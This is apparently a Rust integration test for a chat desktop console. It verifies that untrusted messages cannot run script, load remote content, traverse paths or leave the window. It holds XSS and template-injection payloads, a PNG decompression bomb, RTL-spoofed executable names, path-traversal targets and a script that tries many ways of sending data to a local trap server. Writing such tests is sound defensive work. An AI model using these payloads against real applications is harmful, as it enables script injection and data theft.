//! What strangers send, in the real window: it is shown as the words it is, loads nothing, leads nowhere, and nothing of
//! it is left where it does not belong.
//!
//! Every address of the story leads to a trap, a server that writes down who asked for what. Where the web UI is concerned
//! it must never be asked at all, not even by a script that got into the page: the last part of the story is such a script.

use std::sync::{Arc, Mutex, PoisonError};

use anyhow::{Context, Result, ensure};
use axum::{
    Router,
    extract::Request,
    http::{StatusCode, header},
    response::{IntoResponse, Redirect, Response},
};
use serde_json::{Value, json};

use crate::seat::{Seat, until};
use crate::secrets::Secrets;
use crate::story::{Story, tell};
use crate::world::Chat;

/// A signature in an address; whoever has it can read the file, so no log may hold it.
const SIGNATURE: &str = "Q7SIGNATUREofAnAddress";
const INVOICE: &str = "%PDF-1.7 an invoice";

/// A picture of one point.
pub const PICTURE: &[u8] = b"\x89PNG\x0d\x0a\x1a\x0a\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\x0dIDATx\xdacd\xf8\xcfP\x0f\x00\x03\x86\x01\x80Z4}k\x00\x00\x00\x00IEND\xaeB`\x82";

struct Trap {
    address: String,
    asked: Arc<Mutex<Vec<Asked>>>,
}

#[derive(Clone, Debug)]
struct Asked {
    path: String,
    by: String,
}

impl Trap {
    async fn set() -> Result<Self> {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let port = listener.local_addr()?.port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let book = asked.clone();
        let answer = move |request: Request| {
            let by = request.headers().get(header::USER_AGENT).and_then(|agent| agent.to_str().ok());
            let path = request.uri().path().to_owned();
            let entry = Asked { path: path.clone(), by: by.unwrap_or_default().to_owned() };
            book.lock().unwrap_or_else(PoisonError::into_inner).push(entry);
            async move { bait(&path, port) }
        };
        tokio::spawn(async move { axum::serve(listener, Router::new().fallback(answer)).await });
        Ok(Self { address: format!("http://127.0.0.1:{port}"), asked })
    }

    fn at(&self, path: &str) -> String {
        format!("{}/{path}?sign={SIGNATURE}", self.address)
    }

    /// The same server by a name that the console must not follow.
    fn inside(&self, path: &str) -> String {
        self.at(path).replace("127.0.0.1", "localhost")
    }

    fn asked(&self) -> Vec<Asked> {
        self.asked.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    fn was_asked_for(&self, path: &str) -> bool {
        self.asked().iter().any(|asked| asked.path == path)
    }
}

fn bait(path: &str, port: u16) -> Response {
    match path {
        "/fine.png" => ([(header::CONTENT_TYPE, "image/png")], PICTURE).into_response(),
        "/page.png" => ([(header::CONTENT_TYPE, "image/png")], "<html><script>window.owned=1</script>").into_response(),
        "/bomb.png" => ([(header::CONTENT_TYPE, "image/png")], bomb()).into_response(),
        "/redirect.png" => Redirect::temporary(&format!("http://localhost:{port}/reached.png")).into_response(),
        "/invoice.pdf" => INVOICE.into_response(),
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

/// The header of a picture that would unfold to ten gigabytes.
fn bomb() -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    bytes.extend(50_000_u32.to_be_bytes());
    bytes.extend(50_000_u32.to_be_bytes());
    bytes.extend([8, 6, 0, 0, 0, 0, 0, 0, 0]);
    bytes
}

#[tokio::test]
async fn what_strangers_send_is_shown_and_does_nothing() -> Result<()> {
    tell("untrusted", async |story| {
        let trap = Trap::set().await?;
        let seat = story.open_seat(&[]).await?;
        seat.sign_in_to_practice().await?;
        let row = seat.until_list().await?.into_iter().next().context("the list is empty")?;
        let chat = story.world.chat(&row.chat).await?;
        seat.open_chat(&chat).await?;
        let page = seat.run::<String>("return location.href", Value::Null).await?;

        words_stay_words(story, &seat, &chat, &trap).await?;
        names_of_files_read_as_they_are(story, &seat, &chat, &trap).await?;
        pictures_come_from_allowed_places_or_not_at_all(story, &seat, &chat, &trap).await?;
        what_a_message_carries_is_saved_where_it_may_be(story, &seat, &chat, &trap).await?;
        the_window_may_call_nothing_else(&seat).await?;
        a_script_in_the_page_reaches_nobody(&seat, &trap).await?;
        the_window_does_not_leave(&seat, &trap, &page).await?;

        let strangers: Vec<Asked> = trap.asked().into_iter().filter(|asked| asked.by.contains("WebKit")).collect();
        ensure!(strangers.is_empty(), "the web UI asked the trap itself: {strangers:#?}");
        let found = Secrets::only("the signature of an address", SIGNATURE).in_files(story.home())?;
        ensure!(found.is_empty(), "{found:#?}");
        seat.close().await
    })
    .await
}

async fn words_stay_words(story: &Story, seat: &Seat, chat: &Chat, trap: &Trap) -> Result<()> {
    let steal = trap.at("text");
    let texts = [
        format!("<script>window.owned = 1; fetch('{steal}')</script>"),
        format!("<img src={steal} onerror='window.owned = 1'>"),
        format!("\"><iframe src='{steal}'></iframe><svg onload='window.owned=1'>"),
        format!("<style>body {{ background: url({steal}) }}</style>"),
        format!("![picture]({steal}) [link](javascript:window.owned=1)"),
        "javascript:window.owned=1 data:text/html,<script>1</script> file:///etc/passwd zuoxi://open".to_owned(),
        "{{7*7}} ${7*7} <%= 7*7 %> &lt;b&gt; %3Cscript%3E".to_owned(),
    ];
    for text in &texts {
        let said = story.world.say(chat, text).await?;
        until_there(seat, &said.message_id).await?;
        let shown = seat.bubbles().await?.into_iter().find(|bubble| bubble.id == said.message_id);
        let shown = shown.context("the message is gone again")?;
        ensure!(shown.text.contains(text.as_str()), "“{text}” is shown as “{}”", shown.text);
    }
    let turned = story.world.say(chat, "付款到 \u{202e}7654321\u{202c} 谢谢").await?;
    until_there(seat, &turned.message_id).await?;

    let odd: Vec<String> = seat.run(LOADS_OR_LEADS, Value::Null).await?;
    ensure!(odd.is_empty(), "the page holds what came from a message: {odd:#?}");
    let owned: bool = seat.run("return window.owned !== undefined", Value::Null).await?;
    ensure!(!owned, "a script of a message ran");
    let turns: bool =
        seat.run("return /[\\u202A-\\u202E\\u2066-\\u2069]/.test(document.body.innerText)", Value::Null).await?;
    ensure!(!turns, "characters that turn the direction of text are on the page");
    Ok(())
}

/// Everything in the page that loads something or leads somewhere, and is neither the console's own nor a page of the web
/// behind a link.
pub const LOADS_OR_LEADS: &str = "
    const found = [];
    for (const element of document.querySelectorAll('*')) {
        for (const name of ['src', 'srcset', 'poster', 'data', 'action', 'formaction', 'background', 'xlink:href']) {
            const value = element.getAttribute(name);
            if (value !== null && !/^(media:|tauri:|data:image\\/|\\/|\\.\\/)/.test(value)) found.push(`${element.tagName} ${name} ${value}`);
        }
        for (const name of element.getAttributeNames()) if (name.startsWith('on')) found.push(`${element.tagName} ${name}`);
        if (element.tagName === 'A' && element.hasAttribute('href') && !/^(https?:|#|\\/)/.test(element.getAttribute('href')))
            found.push(`A ${element.getAttribute('href')}`);
    }
    for (const kind of ['iframe', 'object', 'embed', 'base', 'form[action]', '[data-testid=message] style', '[data-testid=message] script'])
        if (document.querySelector(kind)) found.push(kind);
    return found;";

async fn names_of_files_read_as_they_are(story: &Story, seat: &Seat, chat: &Chat, trap: &Trap) -> Result<()> {
    let name = "报价单\u{202e}fdp.exe";
    let content = json!({ "contentType": 8, "fileUrl": trap.at("program"), "fileName": name });
    let said = story.world.say_content(chat, &content).await?;
    until_there(seat, &said.message_id).await?;
    let text = text_of(seat, &said.message_id).await?;
    ensure!(text.contains("报价单fdp.exe"), "the file is shown as “{text}”");
    let refused = seat.call("open_file", json!({ "message": key(chat, &said.message_id) })).await?;
    ensure!(refused["code"] == "fileDangerous", "a program was opened: {refused}");
    ensure!(!trap.was_asked_for("/program"), "a program that is not opened need not be fetched");
    Ok(())
}

async fn pictures_come_from_allowed_places_or_not_at_all(
    story: &Story,
    seat: &Seat,
    chat: &Chat,
    trap: &Trap,
) -> Result<()> {
    let image = |url: String| json!({ "contentType": 7, "pic": url });
    let fine = story.world.say_content(chat, &image(trap.at("fine.png"))).await?;
    until("a picture that is fine is shown", async || {
        let script = "return (document.querySelector(`[data-message-id=\"${arguments[0]}\"] img[src*=image]`)?.naturalWidth ?? 0) > 0";
        seat.run(script, json!(fine.message_id)).await
    })
    .await?;
    for address in [
        trap.inside("inside.png"),
        trap.at("redirect.png"),
        trap.at("page.png"),
        trap.at("bomb.png"),
        "file:///etc/passwd".to_owned(),
        "data:image/svg+xml,<svg onload='window.owned=1'/>".to_owned(),
    ] {
        let said = story.world.say_content(chat, &image(address.clone())).await?;
        until_there(seat, &said.message_id).await?;
        until(&format!("{address} is given up"), async || {
            let script =
                "return document.querySelector(`[data-message-id=\"${arguments[0]}\"] img[src*=image]`) === null";
            seat.run(script, json!(said.message_id)).await
        })
        .await?;
    }
    for tried in ["/redirect.png", "/page.png", "/bomb.png"] {
        ensure!(trap.was_asked_for(tried), "{tried} was given up before it was judged");
    }
    for never in ["/inside.png", "/reached.png"] {
        ensure!(!trap.was_asked_for(never), "{never} was fetched from inside the network");
    }
    Ok(())
}

async fn what_a_message_carries_is_saved_where_it_may_be(
    story: &Story,
    seat: &Seat,
    chat: &Chat,
    trap: &Trap,
) -> Result<()> {
    let content = json!({ "contentType": 8, "fileUrl": trap.at("invoice.pdf"), "fileName": "../../发票.pdf" });
    let said = story.world.say_content(chat, &content).await?;
    until_there(seat, &said.message_id).await?;
    let save = async |path: &str| {
        let path = story.home().join(path).display().to_string();
        seat.call("save_media", json!({ "message": key(chat, &said.message_id), "path": path })).await
    };
    for place in [".config/autostart.pdf", "zuoxi/profile.json", "nowhere/at/all.pdf", "zuoxi/../.bashrc"] {
        let refused = save(place).await?;
        ensure!(refused["code"] == "invalidInput", "{place}: {refused}");
    }
    let saved = save("发票.pdf").await?;
    ensure!(saved.is_null(), "{saved}");
    ensure!(std::fs::read_to_string(story.home().join("发票.pdf"))? == INVOICE);

    let judged = seat.call("judge_link", json!({ "url": "https://аррӏе.com/", "shown": "apple.com" })).await?;
    ensure!(judged["host"] == "xn--80ak6aa92e.com", "{judged}");
    ensure!(judged["warnings"] == json!(["lookAlike", "otherHost"]), "{judged}");
    Ok(())
}

/// The window's own way to the desktop, used as a script of a stranger would.
async fn the_window_may_call_nothing_else(seat: &Seat) -> Result<()> {
    for url in ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "zuoxi://x", "//trap"] {
        let refused = seat.call("open_link", json!({ "url": url })).await?;
        ensure!(refused["code"] == "invalidInput", "{url}: {refused}");
    }
    for (command, arguments) in [
        ("plugin:opener|open_url", json!({ "url": "https://a.example" })),
        ("plugin:opener|open_path", json!({ "path": "/etc/passwd" })),
        ("plugin:shell|execute", json!({ "program": "sh" })),
        ("plugin:fs|read_text_file", json!({ "path": "/etc/passwd" })),
        ("plugin:window|set_title", json!({ "label": "main", "value": "owned" })),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "other", "url": "https://a.example" } }),
        ),
        ("plugin:event|emit", json!({ "event": "x" })),
        ("plugin:dialog|message", json!({ "message": "x" })),
        ("plugin:webview|internal_toggle_devtools", json!({})),
    ] {
        let refused = seat.call(command, arguments).await?;
        let words = refused["failed"].as_str().unwrap_or_default();
        ensure!(words.contains("not allowed") || words.contains("not found"), "{command}: {refused}");
    }
    Ok(())
}

/// What a script could do if one ever got into the page.
async fn a_script_in_the_page_reaches_nobody(seat: &Seat, trap: &Trap) -> Result<()> {
    let before = trap.asked().len();
    seat.run::<Value>(REACH_OUT, json!(trap.at("script"))).await?;
    until("every way out has been tried", async || seat.run("return window.tried === true", Value::Null).await).await?;
    let owned: bool = seat.run("return window.owned !== undefined", Value::Null).await?;
    ensure!(!owned, "a script that was put into the page ran");
    let asked: Vec<Asked> = trap.asked().into_iter().skip(before).collect();
    ensure!(asked.is_empty(), "a script in the page reached {asked:#?}");
    Ok(())
}

const REACH_OUT: &str = r"
    const to = arguments[0];
    const ways = [
        () => fetch(to, { mode: 'no-cors' }),
        () => new Promise((done, failed) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = failed; r.open('GET', to); r.send(); }),
        () => new Promise((done, failed) => { const s = new WebSocket(to.replace('http', 'ws')); s.onopen = done; s.onerror = failed; }),
        () => new Promise((done, failed) => { const s = new EventSource(to); s.onopen = done; s.onerror = failed; }),
        () => new Promise((done, failed) => { const i = new Image(); i.onload = done; i.onerror = failed; i.src = to; }),
        () => new Promise((done, failed) => { const a = new Audio(); a.oncanplay = done; a.onerror = failed; a.src = to; a.load(); }),
        () => navigator.sendBeacon(to),
        () => { const f = document.createElement('form'); f.action = to; f.method = 'post'; document.body.append(f); f.submit(); f.remove(); },
        () => { const s = document.createElement('script'); s.textContent = 'window.owned = 1'; document.body.append(s); s.remove(); },
        () => new Promise((done, failed) => { const s = document.createElement('script'); s.src = to; s.onload = done; s.onerror = failed; document.body.append(s); }),
        () => { const d = document.createElement('div'); d.innerHTML = `<img src=x onerror='window.owned=1'><iframe src='${to}'></iframe>`; document.body.append(d); },
        () => { const s = document.createElement('style'); s.textContent = `body { background: url(${to}) }`; document.head.append(s); },
        () => new Promise((done, failed) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to; l.onload = done; l.onerror = failed; document.head.append(l); }),
        () => new FontFace('x', `url(${to})`).load(),
        () => new Worker(to),
    ];
    window.tried = false;
    Promise.allSettled(ways.map(async way => way())).then(() => requestAnimationFrame(() => setTimeout(() => { window.tried = true; }, 0)));
    return null;";

async fn the_window_does_not_leave(seat: &Seat, trap: &Trap, page: &str) -> Result<()> {
    let before = trap.asked().len();
    for way in [
        "location.href = arguments[0]",
        "location.replace(arguments[0])",
        "window.open(arguments[0])",
        "const a = document.createElement('a'); a.href = arguments[0]; document.body.append(a); a.click(); a.remove()",
        "const a = document.createElement('a'); a.href = arguments[0]; a.target = '_blank'; document.body.append(a); a.click(); a.remove()",
        "const a = document.createElement('a'); a.href = arguments[0]; a.download = 'x.exe'; document.body.append(a); a.click(); a.remove()",
        "location.href = 'file:///etc/passwd'",
        "location.href = 'data:text/html,<h1>signed out</h1>'",
    ] {
        seat.run::<Value>(&format!("{way}; return null"), json!(trap.at("away"))).await?;
        until("the window still answers", async || Ok(seat.connection().await? == "live")).await?;
        let here = seat.run::<String>("return location.href", Value::Null).await?;
        ensure!(here == page, "“{way}” led the window to {here}");
    }
    ensure!(seat.has("shell").await?, "the console is gone from its window");
    let asked: Vec<Asked> = trap.asked().into_iter().skip(before).collect();
    ensure!(asked.is_empty(), "the window went to {asked:#?}");
    Ok(())
}

async fn until_there(seat: &Seat, message: &str) -> Result<()> {
    until("the message is in the thread", async || Ok(seat.bubbles().await?.iter().any(|bubble| bubble.id == message)))
        .await
}

async fn text_of(seat: &Seat, message: &str) -> Result<String> {
    let found = seat.bubbles().await?.into_iter().find(|bubble| bubble.id == message);
    Ok(found.context("the message is not in the thread")?.text)
}

fn key(chat: &Chat, message: &str) -> Value {
    json!({ "robotKey": chat.through, "chatUser": chat.with, "messageId": message })
}
